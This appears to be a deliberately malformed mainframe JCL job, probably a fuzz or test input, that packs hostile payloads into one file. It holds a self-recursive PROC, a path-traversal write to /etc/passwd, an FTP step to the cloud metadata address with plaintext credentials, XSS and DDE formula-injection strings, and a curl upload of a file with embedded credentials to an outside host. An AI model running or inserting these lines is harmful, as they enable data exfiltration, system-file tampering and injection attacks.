//LOOP     JOB CLASS=A
//S1       EXEC SELF
//         INCLUDE MEMBER=LOOP
//SELF     PROC A=&B,B=&A
//X        EXEC SELF
//Y        EXEC PGM=SORT
//SORTIN   DD DSN=&A..IN,DISP=SHR
//SORTOUT  DD DSN=../../etc/passwd,DISP=(NEW,CATLG)
//         PEND
//S2       EXEC PGM=FTP,PARM='169.254.169.254'
//INPUT    DD *
root
hunter2-Secret
PUT '<script>alert(1)</script>' =cmd|' /C calc'!A0
/*
//S3       EXEC PGM=BPXBATCH
//STDPARM  DD *
SH curl -u svc:hunter3-Secret -T /u/a.csv https://up.example.com/in
/*
